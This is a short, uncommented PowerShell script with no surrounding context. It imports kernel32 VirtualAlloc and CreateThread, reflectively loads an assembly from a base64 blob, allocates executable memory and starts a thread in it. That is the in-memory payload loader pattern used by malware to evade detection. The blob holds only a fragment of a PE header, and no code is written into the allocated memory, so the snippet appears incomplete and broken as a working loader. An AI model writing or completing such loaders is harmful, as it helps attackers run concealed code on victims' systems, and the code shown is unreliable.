$code = @"
[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);
[DllImport("kernel32.dll")] public static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr id);
"@
$k = Add-Type -MemberDefinition $code -Name K -Namespace W -PassThru
[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAA='))
$mem = $k::VirtualAlloc(0, 4096, 0x3000, 0x40)
$k::CreateThread(0, 0, $mem, 0, 0, 0)
